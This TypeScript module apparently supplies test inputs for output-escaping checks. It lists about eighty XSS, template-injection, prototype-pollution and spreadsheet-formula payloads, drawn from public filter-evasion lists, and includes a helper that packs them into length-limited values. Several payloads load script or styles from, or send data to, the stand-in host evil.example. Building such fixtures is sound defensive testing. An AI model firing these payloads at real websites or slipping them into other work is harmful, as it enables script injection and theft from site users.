/** The one that stands in every value, and is looked for as text. */
export const SIGN = "<svg onload=xss()>";

/**
 * Texts that run `xss()`, or ask another machine, wherever they are taken for more than text. After OWASP's filter evasion, PortSwigger's
 * and the html5sec lists, by the context that they break out of.
 */
export const VECTORS: readonly string[] = [
  // Elements and handlers.
  "<script>xss()</script>",
  "<ScRiPt >xss()</sCrIpT>",
  "<script src=https://evil.example/a.js></script>",
  "<script type=module>xss()</script>",
  "<scr<script>ipt>xss()</scr</script>ipt>",
  "<img src=x onerror=xss()>",
  '<img src="x" onerror="xss()">',
  "<img/src=x/onerror=xss()>",
  "<img src=x onerror\t=\nxss()>".replaceAll(/[\t\n]/g, " "),
  "<body onload=xss()>",
  "<iframe src=javascript:xss()>",
  '<iframe srcdoc="<script>parent.xss()</script>">',
  "<object data=javascript:xss()>",
  "<embed src=javascript:xss()>",
  "<video><source onerror=xss()></video>",
  "<audio src=x onerror=xss()>",
  "<details open ontoggle=xss()>",
  "<input autofocus onfocus=xss()>",
  "<select autofocus onfocus=xss()>",
  "<marquee onstart=xss()>",
  "<p style=animation-name:x onanimationstart=xss()>",
  "<b onpointerrawupdate=xss() tabindex=1 autofocus onfocus=xss()>",
  "<form><button formaction=javascript:xss()>X",
  "<base href=https://evil.example/>",
  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
  "<link rel=stylesheet href=https://evil.example/a.css>",
  // SVG and MathML.
  "<svg><script>xss()</script></svg>",
  "<svg><animate onbegin=xss() attributeName=x></svg>",
  '<svg><a xlink:href="javascript:xss()"><text y=9>X</text></a></svg>',
  "<svg><use href=data:image/svg+xml,<svg/onload=xss()>>",
  "<math><maction actiontype=statusline xlink:href=javascript:xss()>X</math>",
  "<math href=javascript:xss()>X</math>",
  // Links.
  "<a href=javascript:xss()>X</a>",
  '<a href="jav&#x09;ascript:xss()">X</a>',
  '<a href="&#1;javascript:xss()">X</a>',
  "<a href=data:text/html,<script>xss()</script>>X</a>",
  "<a href=vbscript:xss()>X</a>",
  "javascript:xss()//",
  "[X](javascript:xss())",
  // Out of attributes, scripts, comments and styles.
  '"><img src=x onerror=xss()>',
  "'><img src=x onerror=xss()>",
  '" onmouseover=xss() autofocus onfocus=xss() x="',
  "' onfocus=xss() autofocus x='",
  "`onerror=xss()//",
  "</script><script>xss()</script>",
  "</title><script>xss()</script>",
  "</textarea><script>xss()</script>",
  "</style><script>xss()</script>",
  "--><script>xss()</script><!--",
  "]]><script>xss()</script>",
  "';xss();//",
  '";xss();//',
  "\\u0022;xss();//",
  // What a parser mends into something else.
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=xss()&gt;'>",
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  "<svg></p><style><a id='</style><img src=1 onerror=xss()>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
  "<template><script>xss()</script></template>",
  "<xmp><img title='</xmp><img src=x onerror=xss()>'>",
  "<<img src=x onerror=xss()//<",
  // Templates.
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template that must stay text
  "${xss()}",
  "{{constructor.constructor('xss()')()}}",
  "<%= xss() %>",
  "#{xss()}",
  "{{{xss()}}}",
  // Styles.
  "<style>@import 'https://evil.example/a.css';</style>",
  "<div style=background:url(https://evil.example/a.png)>X</div>",
  "<div style=width:expression(xss())>X</div>",
  "x;background:url(https://evil.example/b.png)",
  // Unicode.
  "\u202e<script>xss()</script>\u202c",
  "＜script＞xss()＜/script＞",
  "%3Cscript%3Exss()%3C/script%3E",
  "&lt;script&gt;xss()&lt;/script&gt;",
  "&#60;img src=x onerror=xss()&#62;",
  "\\x3cscript\\x3exss()\\x3c/script\\x3e",
  "<ſcript>xss()</ſcript>",
  "<img src=x onerror=\u2028xss()>",
  // Keys of objects, and cells of a table.
  "__proto__",
  "constructor",
  '{"__proto__":{"innerHTML":"<img src=x onerror=xss()>"}}',
  '=HYPERLINK("https://evil.example/?xss()")',
  "@SUM(1)*cmd|' /C xss()'!A0",
];

/** As many of them as go into a value of at most so many characters: the sign first, then from the n-th on. */
export function pack(most: number, turn = 0): string {
  let value = SIGN;
  for (let n = 0; n < VECTORS.length; n++) {
    const next = VECTORS[(turn + n) % VECTORS.length] ?? "";
    if (value.length + 1 + next.length <= most) value += ` ${next}`;
  }
  return value;
}
